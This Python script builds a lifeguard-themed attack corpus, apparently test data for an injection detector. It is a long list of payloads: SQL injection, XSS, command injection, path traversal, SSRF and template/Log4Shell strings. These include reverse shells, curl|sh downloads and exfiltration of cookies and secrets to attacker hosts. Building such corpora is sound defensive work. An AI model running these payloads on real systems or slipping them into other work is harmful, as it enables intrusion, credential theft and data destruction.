#!/usr/bin/env python3
"""Attack corpus for the lifeguards theme (beach lifeguard service).

Standard library only. Writes attacks.jsonl next to this file.
Mostly hand-written literals; a small templated part only joins a hand-written
theme prefix to a hand-written payload, or applies one URL encoding to one.
"""
import json
import os
import random
import urllib.parse

SEED = 22002
PREFIX = "hahc"

# (category, target count)
TARGETS = [
    ("sqli", 80), ("xss", 78), ("cmdi", 70), ("traversal", 50), ("ssrf", 50),
    ("code", 80), ("nosqli", 27), ("crlf", 30), ("ldap-xpath", 20),
]

L = {}

# ------------------------------------------------------------------ sqli
L["sqli"] = [
    ("plain-boolean", "' OR '1'='1"),
    ("plain-comment-login", "admin'-- "),
    ("note-union-select", "Rip at groyne 4' UNION SELECT username, password_hash FROM staff_users-- -"),
    ("tower-id-numeric-boolean", "3 OR 1=1"),
    ("tower-id-numeric-union", "3 UNION ALL SELECT NULL,table_name,NULL FROM information_schema.tables--"),
    ("search-mysql-sleep", "Tower 2' AND SLEEP(5)-- -"),
    ("incident-mssql-waitfor", "jet ski log'; WAITFOR DELAY '0:0:5'--"),
    ("flag-pg-sleep-stacked", "red flag'; SELECT pg_sleep(5)--"),
    ("oracle-dbms-pipe", "T5' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)--"),
    ("sqlite-randomblob-heavy", "bluebottle' AND 1=LIKE('ABC',UPPER(HEX(RANDOMBLOB(300000000))))--"),
    ("mysql-extractvalue-error", "enterococci' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT version())))-- -"),
    ("mysql-updatexml-error", "' AND UPDATEXML(1,CONCAT(0x7e,user()),1)#"),
    ("mssql-convert-error", "Bronze' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))--"),
    ("pg-cast-error", "NPLQ' AND 1=CAST((SELECT current_user) AS int)--"),
    ("lostfound-stacked-drop", "lost sunglasses'; DROP TABLE lost_items;--"),
    ("mssql-xp-cmdshell", "T3 roster'; EXEC xp_cmdshell 'whoami';--"),
    ("pg-copy-to-program", "'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/x|sh';--"),
    ("mysql-into-outfile-webshell", "' UNION SELECT '<?php system($_GET[c]); ?>',2 INTO OUTFILE '/var/www/html/s.php'-- -"),
    ("comment-as-space-union", "'/**/UNION/**/SELECT/**/email,pass/**/FROM/**/users#"),
    ("mysql-versioned-comment", "' /*!50000UNION*/ /*!50000SELECT*/ 1,2,3-- -"),
    ("case-mixing-union", "Tower 1' uNiOn SeLeCt NULL,@@version-- -"),
    ("sort-param-case-when", "shift_date,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)"),
    ("cert-blind-substring", "RLSS-2291' AND SUBSTRING((SELECT password FROM users LIMIT 1),1,1)='a'-- -"),
    ("oracle-blind-ascii", "' AND ASCII(SUBSTR((SELECT user FROM dual),1,1))>64--"),
    ("oracle-union-dual", "' UNION SELECT banner,NULL FROM v$version--"),
    ("oracle-utl-http-oob", "'||UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual))||'"),
    ("mssql-xp-dirtree-oob", "'; EXEC master..xp_dirtree '\\\\attacker.example\\share';--"),
    ("mysql-load-file", "' UNION SELECT LOAD_FILE('/etc/passwd'),2-- -"),
    ("double-quote-context", "\" OR \"\"=\""),
    ("paren-context-boolean", "') OR ('1'='1"),
    ("numeric-hex-tautology", "1 OR 0x50=0x50"),
    ("plain-boolean+urlencode", "%27%20OR%201%3D1--%20"),
    ("plain-union+double-urlencode", "%2527%2520UNION%2520SELECT%2520password%2520FROM%2520users--"),
    ("plain-boolean+fullwidth-nfkc", "＇ OR 1=1-- "),
    ("having-error", "T2' HAVING 1=1--"),
    ("group-by-having", "' GROUP BY staff.id HAVING 1=1--"),
    ("comment-insert-subquery", "Great job today', (SELECT password FROM users WHERE id=1))-- -"),
    ("profile-update-role", "Priya', role='admin' WHERE username='pnair'-- -"),
    ("sqlite-master-union", "' UNION SELECT sql,NULL FROM sqlite_master--"),
    ("pg-concat-subquery", "'||(SELECT version())||'"),
    ("mssql-plus-concat", "'+(SELECT TOP 1 password FROM users)+'"),
    ("numeric-mysql-benchmark", "1 AND BENCHMARK(5000000,MD5(1))"),
    ("mssql-if-waitfor", "1; IF (1=1) WAITFOR DELAY '0:0:5'--"),
    ("pg-case-sleep", "1; SELECT CASE WHEN (SELECT current_setting('is_superuser'))='on' THEN pg_sleep(5) ELSE pg_sleep(0) END--"),
    ("between-tautology", "' OR 2 BETWEEN 1 AND 3-- -"),
    ("like-tautology", "' OR username LIKE '%admin%'-- -"),
    ("no-space-parens", "'or(1)=(1)#"),
    ("whitespace-tab-newline", "'\tUNION\nSELECT\t1,2--"),
    ("numeric-union+urlencode-newline", "1%0aUNION%0aSELECT%0a1,2,3"),
    ("h2-create-alias-rce", "'; CREATE ALIAS EXEC AS 'String e(String c) throws Exception{Runtime.getRuntime().exec(c);return null;}'; CALL EXEC('id');--"),
    ("numeric-group-concat-columns", "-1 UNION SELECT 1,group_concat(column_name),3 FROM information_schema.columns WHERE table_name='certificates'"),
    ("limit-procedure-analyse", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),
    ("order-by-blind-case", "(CASE WHEN (SELECT substr(password,1,1) FROM users WHERE id=1)='a' THEN tower ELSE shift_date END)"),
    ("numeric-float-union", "-1.0UNION SELECT 1,2,3-- -"),
    ("char-function-union", "' UNION SELECT CHAR(114,111,111,116),2-- -"),
    ("login-hash-comment", "admin'#"),
    ("mssql-shutdown", "'; SHUTDOWN WITH NOWAIT;--"),
    ("oracle-ctxsys-error", "' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--"),
    ("pg-read-file-dollar-quote", "'; SELECT $$x$$||pg_read_file('/etc/passwd');--"),
    ("pg-lo-import", "'; SELECT lo_import('/etc/passwd');--"),
    ("sqlite-attach-webshell", "'; ATTACH DATABASE '/var/www/html/s.php' AS p; CREATE TABLE p.x(d text); INSERT INTO p.x VALUES('<?php system($_GET[0]);?>');--"),
    ("mysql-inline-or-comment", "1/*!OR*/1=1"),
    ("or-true", "' OR TRUE-- -"),
    ("email-field-boolean", "guard@beach.example' OR 1=1-- -"),
    ("cert-no-nested-sleep", "NPLQ-0778' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -"),
    ("water-reading-numeric-stacked", "35; DELETE FROM water_samples--"),
    ("roster-week-mssql-union", "W29' UNION SELECT name, password_hash FROM master..sysxlogins--"),
    ("mysql-information-schema-tables", "' AND 1=0 UNION SELECT table_schema,table_name FROM information_schema.tables-- -"),
    ("pg-stacked-create-role", "'; CREATE ROLE backdoor LOGIN SUPERUSER PASSWORD 'x';--"),
    ("mysql-if-sleep", "' AND IF(ORD(MID(database(),1,1))>100,SLEEP(4),0)-- -"),
]

SQLI_PREFIXES = ["Tower 3 note: ", "incident 24-0713-0088 ", "flag=red ", "search: rip ",
                 "lost item: keys ", "Bronze cert ", "guard: O"]
SQLI_PAYLOADS = [
    ("prefix-union-select", "' UNION SELECT username,password FROM users-- -"),
    ("prefix-boolean", "' OR 'a'='a"),
    ("prefix-mysql-sleep", "' AND SLEEP(6)#"),
    ("prefix-stacked-drop", "'; DROP TABLE incidents;--"),
    ("prefix-mssql-waitfor", "'; WAITFOR DELAY '0:0:7'--"),
]

# ------------------------------------------------------------------ xss
L["xss"] = [
    ("plain-script-tag", "<script>alert(document.domain)</script>"),
    ("lostfound-img-onerror", "Lost blue towel <img src=x onerror=alert(1)>"),
    ("svg-onload-cookie-exfil", "<svg onload=fetch('//attacker.example/c?'+document.cookie)>"),
    ("body-onpageshow", "<body onpageshow=alert(1)>"),
    ("iframe-javascript-src", "<iframe src=\"javascript:alert(1)\"></iframe>"),
    ("anchor-javascript-href", "<a href=\"javascript:alert(document.cookie)\">see flag chart</a>"),
    ("details-ontoggle", "Tower 4 notes <details open ontoggle=alert(1)>"),
    ("input-autofocus-onfocus", "<input autofocus onfocus=alert(1)>"),
    ("video-source-onerror", "<video><source onerror=alert(1)></video>"),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>red flag</marquee>"),
    ("attr-breakout-dq-onmouseover", "\" onmouseover=\"alert(1)"),
    ("attr-breakout-sq-script", "'><script>alert(1)</script>"),
    ("attr-breakout-svg-slash", "\"><svg/onload=alert(1)>"),
    ("textarea-breakout", "</textarea><script>alert(1)</script>"),
    ("title-breakout", "</title><img src=x onerror=alert(1)>"),
    ("case-mixing-script", "<ScRiPt>alert(1)</sCrIpT>"),
    ("case-mixing-handler-backtick", "<img src=x oNeRrOr=alert`1`>"),
    ("svg-script-entity-parens", "<svg><script>alert&#40;1&#41;</script></svg>"),
    ("href-decimal-entities", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">cert</a>"),
    ("href-tab-entity-in-scheme", "<a href=\"jav&#x09;ascript:alert(1)\">tide table</a>"),
    ("handler-hex-entity", "<img src=x onerror=\"&#x61;lert(1)\">"),
    ("plain-script+urlencode", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("svg-onload+double-urlencode", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("img-atob-eval", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("mxss-math-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("mxss-noscript-title", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("object-data-uri-base64", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
    ("embed-javascript", "<embed src=\"javascript:alert(1)\">"),
    ("form-action-javascript", "<form action=\"javascript:alert(1)\"><button>Submit report</button></form>"),
    ("button-formaction", "<form><button formaction=javascript:alert(1)>Log incident</button></form>"),
    ("base-href-hijack", "<base href=\"//attacker.example/\">"),
    ("meta-refresh-redirect", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("style-import-css-exfil", "<style>@import'//attacker.example/x.css';</style>"),
    ("url-field-javascript-scheme", "javascript:alert(document.cookie)"),
    ("url-field-case-mixed-scheme", "JaVaScRiPt:alert(1)"),
    ("url-field-scheme-newline+urlencode", "java%0ascript:alert(1)"),
    ("url-field-data-html", "data:text/html,<script>alert(1)</script>"),
    ("svg-xlink-href", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>flags</text></a></svg>"),
    ("select-autofocus", "<select autofocus onfocus=alert(1)>"),
    ("textarea-autofocus", "<textarea autofocus onfocus=alert(1)>"),
    ("img-dynamic-import", "<img src=1 onerror=import('//attacker.example/x.js')>"),
    ("script-src-remote", "Roster note <script src=//attacker.example/x.js></script>"),
    ("script-image-beacon", "<script>new Image().src='//attacker.example/?c='+document.cookie</script>"),
    ("js-string-sq-breakout", "';alert(1);//"),
    ("js-string-escaped-quote-breakout", "\\';alert(1);//"),
    ("js-block-script-close", "</script><script>alert(1)</script>"),
    ("js-template-literal", "${alert(document.domain)}"),
    ("angularjs-csti-constructor", "{{constructor.constructor('alert(1)')()}}"),
    ("img-unclosed-tag", "<img src=x onerror=alert(1)//"),
    ("svg-unclosed-tag", "<svg onload=alert(1)//"),
    ("img-slash-separators", "<img/src/onerror=alert(1)>"),
    ("svg-newline-separator", "<svg\nonload=alert(1)>"),
    ("img-tab-before-equals", "<img src=x onerror\t=alert(1)>"),
    ("iframe-srcdoc-entities", "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>"),
    ("custom-tag-onclick", "<x onclick=alert(1)>click me</x>"),
    ("p-onpointerenter", "<p onpointerenter=alert(1)>Tower 4 notes</p>"),
    ("img-location-cookie", "<img src=x onerror=location='//attacker.example/?'+document.cookie>"),
    ("svg-settimeout-concat", "<svg onload=\"setTimeout('ale'+'rt(1)')\">"),
    ("img-window-bracket-concat", "<img src=x onerror=window['al'+'ert'](1)>"),
    ("img-js-unicode-escape", "<img src=x onerror=\\u0061lert(1)>"),
    ("script+fullwidth-nfkc", "＜script＞alert(1)＜/script＞"),
    ("script+percent-u-iis", "%u003Cscript%u003Ealert(1)%u003C/script%u003E"),
    ("script+entity-decoded", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("script+overlong-utf8", "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"),
    ("markdown-link-javascript", "Check the [tide chart](javascript:alert(1)) before your shift"),
    ("markdown-image-attr-breakout", "![flag](x\" onerror=\"alert(1))"),
    ("svg-style-breakout", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ("anchor-onclick-exfil-api", "<a href=# onclick=\"fetch('/api/staff').then(r=>r.text()).then(t=>navigator.sendBeacon('//attacker.example',t))\">roster</a>"),
]

XSS_PREFIXES = ["Found: goggles ", "Incident note: ", "Tower 2 - ", "Cert comment: ",
                "Chat: swap at 2? "]
XSS_PAYLOADS = [
    ("prefix-img-onerror", "<img src=x onerror=alert(document.domain)>"),
    ("prefix-svg-onload", "<svg onload=alert(1)>"),
    ("prefix-script-tag", "<script>alert(1)</script>"),
    ("prefix-iframe-javascript", "<iframe src=javascript:alert(1)>"),
    ("prefix-body-onload", "<body onload=alert(1)>"),
]

# ------------------------------------------------------------------ cmdi
L["cmdi"] = [
    ("plain-semicolon-id", "; id"),
    ("plain-pipe-passwd", "| cat /etc/passwd"),
    ("plain-and-whoami", "&& whoami"),
    ("plain-backtick", "`id`"),
    ("plain-dollar-paren", "$(id)"),
    ("filename-semicolon-rm", "report.pdf; rm -rf /tmp/*"),
    ("export-pipe-nc-shell", "tower3.csv | nc attacker.example 4444 -e /bin/sh"),
    ("photo-curl-pipe-sh", "beach.jpg; curl http://attacker.example/s.sh | sh"),
    ("subshell-curl-bash", "$(curl -s attacker.example/x|bash)"),
    ("bash-dev-tcp-reverse", "; bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
    ("or-wget-sh", "|| wget -qO- http://198.51.100.23/a | sh"),
    ("newline+urlencode", "flags.txt%0aid"),
    ("literal-newline", "flags.txt\ncat /etc/shadow"),
    ("ifs-space-bypass", "; cat${IFS}/etc/passwd"),
    ("brace-expansion", ";{cat,/etc/passwd}"),
    ("quote-splitting", "; c'a't /etc/pas's'wd"),
    ("glob-wildcards", "; /???/c?t /???/p?ss??"),
    ("base64-pipe-sh", "; echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh"),
    ("printf-hex-subshell", "$(printf '\\x69\\x64')"),
    ("time-sleep", "tide.csv; sleep 10"),
    ("windows-ping-delay", "& ping -n 10 127.0.0.1 &"),
    ("windows-type-winini", "| type C:\\Windows\\win.ini"),
    ("windows-dir-users", "& dir C:\\Users"),
    ("powershell-iex-download", "& powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/p.ps1')\""),
    ("powershell-encodedcommand", "| powershell -enc dwBoAG8AYQBtAGkA"),
    ("windows-certutil-download", "| certutil -urlcache -split -f http://attacker.example/a.exe %TEMP%\\a.exe"),
    ("windows-cmd-c", "& cmd /c whoami"),
    ("argi-curl-output-webshell", "-o /var/www/html/s.php http://attacker.example/s.txt"),
    ("argi-ssh-proxycommand", "-oProxyCommand=sh -c 'id > /tmp/x' x"),
    ("argi-git-upload-pack", "--upload-pack=touch /tmp/pwn"),
    ("argi-find-exec", "-exec sh -c id ;"),
    ("argi-tar-checkpoint-action", "--checkpoint=1 --checkpoint-action=exec=sh s.sh"),
    ("argi-zip-tt", "-T -TT 'sh -c id #'"),
    ("argi-rsync-e", "-e 'sh -c id' x:/"),
    ("argi-wget-post-file", "--post-file=/etc/passwd http://attacker.example/"),
    ("argi-sendmail-log-x", "guard@beach.example -OQueueDirectory=/tmp -X/var/www/html/rce.php"),
    ("argi-tar-to-command", "--to-command=sh -c id"),
    ("subshell-touch", "$(touch /tmp/pwned)"),
    ("backtick-sleep", "`sleep 5`"),
    ("dns-oob-nslookup", "; nslookup $(whoami).attacker.example"),
    ("curl-exfil-passwd", "| curl -d @/etc/passwd http://attacker.example/"),
    ("python-os-system", "; python3 -c 'import os;os.system(\"id\")'"),
    ("perl-system", "; perl -e 'system(\"id\")'"),
    ("php-cli-system", "; php -r 'system(\"id\");'"),
    ("busybox-nc-reverse", "; busybox nc 203.0.113.9 9001 -e sh"),
    ("mkfifo-reverse-shell", "; rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f"),
    ("crontab-persistence", "; echo '* * * * * root curl attacker.example|sh' >> /etc/crontab"),
    ("setuid-bash", "; chmod +s /bin/bash"),
    ("ifs-uname", "; uname${IFS}-a"),
    ("dollar-at-split", "; who$@ami"),
    ("single-quote-split", "; w'h'o'am'i"),
    ("backslash-split", "; wh\\oami"),
    ("ansi-c-hex-quoting", "a;$'\\x69\\x64'"),
    ("semicolon+urlencode", "%3B%20cat%20%2Fetc%2Fpasswd"),
    ("and-and+urlencode", "%26%26%20id"),
    ("powershell-get-content-config", "; Get-Content C:\\inetpub\\wwwroot\\web.config"),
    ("powershell-download-run", "; Invoke-WebRequest http://attacker.example/x.exe -OutFile $env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe"),
    ("powershell-remove-item", "| Remove-Item -Recurse -Force C:\\Backups"),
    ("windows-net-user-add", "& net user hacker P@ss123 /add"),
    ("windows-reg-query", "& reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"),
    ("env-exfil-curl", "; env | curl -X POST --data-binary @- http://attacker.example/e"),
    ("subshell-secret-read", "$(cat /run/secrets/db_password)"),
    ("kill-all", "; kill -9 -1"),
    ("dq-context-breakout", "tower_photo.jpg\"; id; \""),
    ("sq-context-breakout", "x' ; id ; '"),
    ("path-var-slicing", "; ${PATH:0:1}bin${PATH:0:1}id"),
    ("sh-c-explicit", "; /bin/sh -c 'id'"),
]

CMDI_PREFIXES = ["roster_W29.csv", "incident_0713.pdf", "tide-2024-07-14.json", "IMG_4471.jpg",
                 "wq_north.xlsx", "cert_scan.png"]
CMDI_PAYLOADS = [
    ("prefix-semicolon-id", "; id"),
    ("prefix-pipe-whoami", " | whoami"),
    ("prefix-subshell-uname", "$(uname -a)"),
    ("prefix-backtick-id", "`id`"),
    ("prefix-and-curl", " && curl http://attacker.example/$(hostname)"),
]

# ------------------------------------------------------------------ traversal
L["traversal"] = [
    ("plain-dotdot-passwd", "../../../../etc/passwd"),
    ("plain-windows-backslash", "..\\..\\..\\windows\\win.ini"),
    ("nested-strip-bypass", "....//....//....//etc/passwd"),
    ("slash+urlencode", "..%2f..%2f..%2fetc%2fpasswd"),
    ("dots-and-slash+urlencode", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow"),
    ("slash+double-urlencode", "..%252f..%252f..%252fetc%252fpasswd"),
    ("slash+overlong-utf8", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("slash+percent-u-division", "..%u2215..%u2215..%u2215etc%u2215passwd"),
    ("absolute-unix", "/etc/passwd"),
    ("absolute-windows", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("cert-dir-proc-environ", "certificates/../../../../proc/self/environ"),
    ("photo-dir-access-log", "photos/2024/../../../../../var/log/nginx/access.log"),
    ("null-byte-extension", "../../../../etc/passwd%00.jpg"),
    ("tomcat-semicolon", "..;/..;/manager/html"),
    ("leading-slash-encoded", "/..%2f..%2f..%2fetc/passwd"),
    ("windows-nested-backslash", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("backslash+urlencode-sam", "..%5c..%5c..%5cwindows%5csystem32%5cconfig%5csam"),
    ("dots-backslash+double-urlencode", "%252e%252e%255c%252e%252e%255cboot.ini"),
    ("absolute-dotdot-ssh-key", "/var/www/app/../../../root/.ssh/id_rsa"),
    ("windows-webconfig", "..\\..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("aws-credentials", "../../../../home/app/.aws/credentials"),
    ("dotenv", "../.env"),
    ("rails-database-yml", "../../config/database.yml"),
    ("java-web-xml", "../../../WEB-INF/web.xml"),
    ("php-filter-wrapper-lfi", "php://filter/convert.base64-encode/resource=../config.php"),
    ("php-zip-wrapper-lfi", "zip://uploads/tower.jpg%23shell.php"),
    ("slash+fullwidth-nfkc", "..／..／..／etc／passwd"),
    ("proc-cmdline", "/proc/self/cmdline"),
    ("half-encoded-dots", ".%2e/.%2e/.%2e/etc/passwd"),
    ("dots+urlencode-hosts", "%2e%2e/%2e%2e/%2e%2e/etc/hosts"),
    ("fullwidth-slash+urlencode-utf8", "..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd"),
    ("slash+overlong-utf8-3byte", "..%e0%80%af..%e0%80%af..%e0%80%afetc/passwd"),
    ("repeated-slashes", "..///////..////..//////etc/passwd"),
    ("dot-segments-then-up", "/./././../../../etc/passwd"),
    ("incident-photo-windows-sam", "incident_photos/..\\..\\..\\..\\Windows\\System32\\config\\SAM"),
    ("export-dir-shadow", "exports/rosters/../../../../../etc/shadow"),
    ("template-dir-php-ini", "templates/../../../../usr/local/etc/php/php.ini"),
    ("dots+overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("k8s-serviceaccount-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("proc-1-environ", "../../../../../../proc/1/environ"),
    ("mixed-backslash-slash", "..\\/..\\/..\\/etc/passwd"),
    ("static-route-encoded", "/static/..%2f..%2f..%2f..%2fetc/passwd"),
    ("wq-csv-dir-group", "water_samples/2024-07.csv/../../../../../etc/group"),
    ("git-config", "../../../.git/config"),
]

TRAV_PREFIXES = ["certificates/", "uploads/incidents/", "exports/rosters/", "lostfound/photos/"]
TRAV_PAYLOADS = [
    ("prefix-dotdot-passwd", "../../../../../etc/passwd"),
    ("prefix-encoded-shadow", "..%2f..%2f..%2f..%2fetc%2fshadow"),
    ("prefix-windows-winini", "..\\..\\..\\..\\windows\\win.ini"),
]

# ------------------------------------------------------------------ ssrf
L["ssrf"] = [
    ("aws-metadata-iam", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("gcp-metadata-token", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("azure-metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("alibaba-metadata", "http://100.100.100.200/latest/meta-data/"),
    ("loopback-admin", "http://127.0.0.1:8080/admin"),
    ("localhost-redis", "http://localhost:6379/"),
    ("gopher-redis-cron", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*%20*%20*%20*%20*%20curl%20attacker.example%7Csh%5Cn%22%0D%0ACONFIG%20SET%20dir%20%2Fvar%2Fspool%2Fcron%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0ASAVE%0D%0A"),
    ("dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("file-scheme-passwd", "file:///etc/passwd"),
    ("decimal-ip-loopback", "http://2130706433/"),
    ("hex-ip-loopback", "http://0x7f000001/"),
    ("octal-ip-loopback", "http://0177.0.0.1/"),
    ("short-ip-loopback", "http://127.1/"),
    ("zero-ip", "http://0/"),
    ("ipv6-loopback-ssh", "http://[::1]:22/"),
    ("ipv4-mapped-ipv6-metadata", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("dns-rebinding-host", "http://metadata.attacker.example/latest/meta-data/"),
    ("userinfo-confusion", "http://tides.beach.example@169.254.169.254/latest/meta-data/"),
    ("fragment-confusion", "http://169.254.169.254#@tides.beach.example/"),
    ("rfc1918-elasticsearch", "http://10.0.0.12:9200/_cat/indices"),
    ("rfc1918-router", "http://192.168.1.1/cgi-bin/luci"),
    ("docker-api", "http://172.17.0.1:2375/containers/json"),
    ("k8s-api-secrets", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("consul-kv", "http://consul.service.internal:8500/v1/kv/?recurse"),
    ("etcd-keys", "http://127.0.0.1:2379/v2/keys/?recursive=true"),
    ("open-redirect-chain", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("octal-ip-metadata", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("hex-ip-metadata", "http://0xa9fea9fe/latest/meta-data/"),
    ("decimal-ip-metadata", "http://2852039166/latest/meta-data/"),
    ("enclosed-alnum-loopback", "http://①②⑦.⓪.⓪.①/"),
    ("percent-encoded-host", "http://%31%32%37%2e%30%2e%30%2e%31/"),
    ("java-jar-scheme", "jar:http://attacker.example/x.jar!/"),
    ("java-netdoc-scheme", "netdoc:///etc/passwd"),
    ("ldap-scheme-internal", "ldap://127.0.0.1:389/"),
    ("tftp-scheme", "tftp://attacker.example/x"),
    ("ipv6-mapped-full", "http://[0:0:0:0:0:ffff:127.0.0.1]/"),
    ("trailing-dot-actuator", "http://localhost.:8080/actuator/env"),
    ("rabbitmq-mgmt", "http://127.0.0.1:15672/api/users"),
    ("ecs-task-credentials", "http://169.254.170.2/v2/credentials/"),
    ("aws-ipv6-metadata", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("apache-server-status", "http://localhost/server-status"),
    ("consul-agent", "http://127.0.0.1:8500/v1/agent/self"),
    ("webhook-setting-metadata", "Webhook for flag changes: http://169.254.169.254/latest/user-data"),
    ("tide-feed-internal", "tide_feed_url=http://10.10.0.5:8080/internal/reset?station=north"),
]

SSRF_PREFIXES = ["webhook=", "tide_feed_url=", "avatar_url=", "Import roster from "]
SSRF_PAYLOADS = [
    ("prefix-aws-metadata", "http://169.254.169.254/latest/meta-data/"),
    ("prefix-loopback-admin", "http://127.0.0.1/admin"),
    ("prefix-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/"),
]

# ------------------------------------------------------------------ code
L["code"] = [
    ("ssti-jinja2-cycler-popen", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("ssti-jinja2-self-context", "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("ssti-jinja2-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("ssti-jinja2-request-builtins", "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("ssti-jinja2-config-leak", "Shift note {{ config.items() }}"),
    ("ssti-jinja2-loop-warning", "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}"),
    ("ssti-jinja2-attr-hex-bypass", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("ssti-twig-filter-system", "{{['id']|filter('system')}}"),
    ("ssti-twig-undefined-filter", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}"),
    ("ssti-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("ssti-velocity-runtime", "#set($r=$class.inspect('java.lang.Runtime').type.getRuntime().exec('id'))$r"),
    ("ssti-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("ssti-smarty-system", "{system('id')}"),
    ("ssti-erb-backtick", "<%= `id` %>"),
    ("ssti-erb-system", "Tower 3 <%= system('cat /etc/passwd') %>"),
    ("ssti-pug-interpolation", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("ssti-nunjucks-range-constructor", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
    ("ssti-ejs-execsync", "<%= process.mainModule.require('child_process').execSync('id') %>"),
    ("ssti-mako-module-os", "${self.module.cache.util.os.system('id')}"),
    ("ssti-mako-block", "<% import os; os.system('id') %>"),
    ("ssti-tornado-import", "{% import os %}{{ os.popen('id').read() }}"),
    ("ssti-django-debug", "{% debug %}"),
    ("ssti-razor-process-start", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("ssti-groovy-execute", "${\"id\".execute().text}"),
    ("spel-runtime-exec", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("spel-hash-curl", "#{T(java.lang.Runtime).getRuntime().exec(new String[]{'sh','-c','curl attacker.example|sh'})}"),
    ("ognl-runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("ognl-struts-member-access", "${#_memberAccess[\"allowStaticMethodAccess\"]=true,@java.lang.Runtime@getRuntime().exec('id')}"),
    ("el-reflection-runtime", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("eval-php-concat", "'.system('id').'"),
    ("eval-php-phpinfo", "phpinfo();"),
    ("eval-python-import", "__import__('os').system('id')"),
    ("eval-python-compile", "eval(compile('import os;os.system(\"id\")','x','exec'))"),
    ("eval-node-child-process", "require('child_process').exec('id')"),
    ("eval-node-mainmodule", "process.mainModule.require('child_process').execSync('id').toString()"),
    ("eval-node-string-breakout", "');require('child_process').exec('curl attacker.example|sh');//"),
    ("eval-ruby-instance-eval", "instance_eval('system(\"id\")')"),
    ("log4shell-ldap", "${jndi:ldap://attacker.example/a}"),
    ("log4shell-rmi", "Tower 2 radio fault ${jndi:rmi://203.0.113.5:1099/Exploit}"),
    ("log4shell-lower-obfuscation", "${${lower:j}ndi:${lower:l}dap://attacker.example/x}"),
